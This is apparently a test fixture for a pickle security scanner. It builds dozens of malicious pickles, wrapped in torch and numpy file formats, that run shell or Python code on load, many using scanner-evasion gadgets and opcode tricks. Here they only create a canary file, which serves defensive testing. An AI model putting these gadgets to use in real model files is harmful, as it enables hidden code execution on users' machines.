"""Pickles that write a file when they are opened: thirty-odd ways, among them those that scanners let pass.

Sources: the advisories of picklescan (https://github.com/mmaitre314/picklescan/security/advisories) on pty.spawn,
timeit, ensurepip, pkgutil.resolve_name, idlelib, asyncio, cProfile, code, doctest, operator, torch and numpy; the
others are the plain functions and the opcodes of https://docs.python.org/3/library/pickletools.html.
"""

from __future__ import annotations

import io
import struct
import tarfile
from collections.abc import Callable

from tests.hostile.torch_files import archive

__all__ = ["PAYLOADS", "in_tar", "in_zip"]


class _Named:
    """A function by its module and name, as a pickle gives it, whether it can be imported or not."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name


def _text(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<L", len(data)) + data


def _value(value: object) -> bytes:
    match value:
        case _Named():
            return f"c{value.module}\n{value.name}\n".encode()
        case _Call():
            return value.opcodes
        case bytes():
            return (
                b"C" + bytes([len(value)]) + value if len(value) < 256 else b"B" + struct.pack("<L", len(value)) + value
            )
        case str():
            return _text(value)
        case bool() | None:
            return {True: b"\x88", False: b"\x89", None: b"N"}[value]
        case int():
            return b"J" + struct.pack("<i", value)
        case list():
            return b"](" + b"".join(map(_value, value)) + b"e"
        case tuple():
            return b"(" + b"".join(map(_value, value)) + b"t"
        case dict():
            return b"}(" + b"".join(_value(k) + _value(v) for k, v in value.items()) + b"u"
    raise TypeError(type(value))


class _Call:
    """What a function returns: ``module.name`` or the result of another call, on arguments."""

    def __init__(self, function: str | _Call, *arguments: object) -> None:
        named = _Named(*function.rsplit(":", 1)) if isinstance(function, str) else function
        self.opcodes = _value(named) + _value(arguments) + b"R"


def _pickle(held: object) -> bytes:
    return b"\x80\x04" + _value(held) + b"."


def _python(canary: str) -> str:
    return f"open({canary!r}, 'w').close()"


def _shell(canary: str) -> str:
    return f": > '{canary}'"


def _named(name: str) -> _Named:
    module, _, function = name.rpartition(":")
    return _Named(module, function)


def _resolved(canary: str) -> _Call:
    return _Call(_Call("pkgutil:resolve_name", "posix:system"), _shell(canary))


def _got(canary: str) -> _Call:
    return _Call(_Call(_Call("operator:attrgetter", "system"), _Call("importlib:import_module", "os")), _shell(canary))


def _method(canary: str) -> _Call:
    return _Call(_Call("operator:methodcaller", "system", _shell(canary)), _Call("importlib:import_module", "os"))


def _interpreter(canary: str) -> _Call:
    method = _Call("builtins:getattr", _Call("code:InteractiveInterpreter"), "runsource")
    return _Call(method, _python(canary))


def _built(canary: str) -> bytes:
    """BUILD: the state of a partial is its function."""
    state = (_named("posix:system"), (_shell(canary),), {}, {})
    partial = _value(_named("functools:partial")) + _value((_named("builtins:len"),)) + b"R" + _value(state) + b"b"
    return b"\x80\x04" + partial + b")R."


def _old_object(canary: str) -> bytes:
    return b"(" + _value(_named("posix:system")) + _text(_shell(canary)) + b"o."


def _old_instance(canary: str) -> bytes:
    return b"(" + _text(_shell(canary)) + b"iposix\nsystem\n."


def _new_object(canary: str) -> bytes:
    """NEWOBJ: ``cls.__new__(cls, ...)`` of a class that is a process."""
    call = _value(_named("subprocess:Popen")) + b")\x81"
    state = _Call("posix:system", _shell(canary)).opcodes
    return b"\x80\x04" + call + state + b"0."


def _stack_global(canary: str) -> bytes:
    return b"\x80\x04" + _text("posix") + _text("system") + b"\x93" + _value((_shell(canary),)) + b"R."


def _from_memo(canary: str) -> bytes:
    """The name is put together from the memo, far from where it is used."""
    return (
        b"\x80\x04" + _text("system") + b"q\x07" + b"0" + _text("posix") + b"q\x09" + b"0" + b"h\x09h\x07\x93"
        + _value((_shell(canary),)) + b"R."
    )  # fmt: skip


def _by_duplicates(canary: str) -> bytes:
    return b"\x80\x04" + _text("posix") + b"2" + b"0" + _text("system") + b"\x93" + _value((_shell(canary),)) + b"R0N."


def _extension(canary: str) -> bytes:
    """EXT1: the pickle registers a number for the function itself, then calls the number."""
    registered = _Call("copyreg:add_extension", "posix", "system", 77)
    return b"\x80\x04" + registered.opcodes + b"0" + b"\x82\x4d" + _value((_shell(canary),)) + b"R."


def _unframed(canary: str) -> bytes:
    """Behind the opcodes stands what makes tools that read them all give up."""
    return _pickle(_Call("posix:system", _shell(canary))) + b"\xff\xfe\x00broken"


def _nested(canary: str) -> bytes:
    return _pickle(_Call("pickle:loads", _pickle(_Call("posix:system", _shell(canary)))))


def _among_tensors(canary: str) -> bytes:
    return _pickle({"norm.weight": [(1.0).hex()], "x": _Call("os:system", _shell(canary))})


def _waiting(call: _Call) -> bytes:
    """A process that is started and not waited for gets its second."""
    return _pickle((call, _Call("time:sleep", 1)))


def _array(held: bytes) -> bytes:
    """Return a .npy file of one object."""
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + held


def in_zip(payload: bytes) -> bytes:
    """Return an archive of ``torch.save`` around a pickle."""
    return archive(payload)


def in_tar(payload: bytes) -> bytes:
    """Return a file as torch wrote it before 0.1.10."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as tar:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            tar.addfile(info, io.BytesIO(payload))
    return made.getvalue()


PAYLOADS: dict[str, Callable[[str], bytes]] = {
    "os.system": lambda c: _pickle(_Call("os:system", _shell(c))),
    "posix.system": lambda c: _pickle(_Call("posix:system", _shell(c))),
    "os.popen": lambda c: _waiting(_Call("os:popen", _shell(c))),
    "os.mkdir": lambda c: _pickle(_Call("os:mkdir", c)),
    "subprocess.run": lambda c: _pickle(_Call("subprocess:run", ["touch", c])),
    "subprocess.getoutput": lambda c: _pickle(_Call("subprocess:getoutput", _shell(c))),
    "builtins.eval": lambda c: _pickle(_Call("builtins:eval", _python(c))),
    "builtins.exec": lambda c: _pickle(_Call("builtins:exec", _python(c))),
    "builtins.open": lambda c: _pickle(_Call("builtins:open", c, "w")),
    "__builtin__.eval": lambda c: b"c__builtin__\neval\n" + _value((_python(c),)) + b"R.",
    "importlib and operator.attrgetter": lambda c: _pickle(_got(c)),
    "importlib and operator.methodcaller": lambda c: _pickle(_method(c)),
    "pkgutil.resolve_name": lambda c: _pickle(_resolved(c)),
    "functools.partial": lambda c: _pickle(_Call(_Call("functools:partial", _named("os:system")), _shell(c))),
    "functools.reduce": lambda c: _pickle(_Call("functools:reduce", _named("builtins:open"), [c, "w"])),
    "map in a set": lambda c: _pickle(_Call("builtins:list", _Call("builtins:map", _named("os:system"), [_shell(c)]))),
    "timeit.timeit": lambda c: _pickle(_Call("timeit:timeit", "", _python(c), _named("time:time"), 1)),
    "cProfile.run": lambda c: _pickle(_Call("cProfile:run", _python(c), c)),
    "trace": lambda c: _pickle(_Call(_Call("builtins:getattr", _Call("trace:Trace", 0, 0), "run"), _python(c))),
    "runpy": lambda c: _pickle((_Call("pathlib:Path.write_text", _Call("pathlib:Path", f"{c}.py"), _python(c)),
                                _Call("runpy:run_path", f"{c}.py"))),
    "code.InteractiveInterpreter": lambda c: _pickle(_interpreter(c)),
    "bdb": lambda c: _pickle(_Call(_Call("builtins:getattr", _Call("bdb:Bdb"), "run"), _python(c))),
    "pty.spawn": lambda c: _pickle(_Call("pty:spawn", ["touch", c])),
    "pydoc.pipepager": lambda c: _pickle(_Call("pydoc:pipepager", "", _shell(c))),
    "multiprocessing.util.spawnv_passfds": lambda c: _waiting(_Call(
        "multiprocessing.util:spawnv_passfds", b"/bin/sh", [b"sh", b"-c", _shell(c).encode()], ())),
    "asyncio": lambda c: _waiting(_Call(
        "asyncio:run", _Call("asyncio.subprocess:create_subprocess_shell", _shell(c)))),
    "shutil.copyfile": lambda c: _pickle(_Call("shutil:copyfile", "/dev/null", c)),
    "tempfile": lambda c: _pickle(_Call("tempfile:NamedTemporaryFile", "w", -1, None, None, "", c, None, False)),
    "sqlite3.connect": lambda c: _pickle(_Call("sqlite3.dbapi2:Connection", c)),
    "logging.FileHandler": lambda c: _pickle(_Call("logging:FileHandler", c)),
    "codecs.open": lambda c: _pickle(_Call("codecs:open", c, "w")),
    "numpy.load": lambda c: _pickle(_Call("numpy.lib.format:read_array", _Call("io:BytesIO",
     _array(_nested(c))), True)),
    "numpy runstring": lambda c: _pickle(_Call("numpy.testing._private.utils:runstring", _python(c), {})),
    "torch.load": lambda c: _pickle(_Call(
        "torch.serialization:load", _Call("io:BytesIO", archive(_nested(c))), None,
         _Call("importlib:import_module", "pickle"))),
    "torch.utils.collect_env.run": lambda c: _pickle(_Call("torch.utils.collect_env:run", _shell(c))),
    "torch.utils._config_module": lambda c: _pickle(_Call(
        "torch.utils._config_module:ConfigModule.load_config", None, _nested(c))),
    "a pickle in a pickle": _nested,
    "BUILD": _built,
    "OBJ": _old_object,
    "INST": _old_instance,
    "NEWOBJ": _new_object,
    "STACK_GLOBAL": _stack_global,
    "names from the memo": _from_memo,
    "names by DUP and POP": _by_duplicates,
    "EXT1": _extension,
    "broken behind its end": _unframed,
    "among tensors": _among_tensors,
}  # fmt: skip
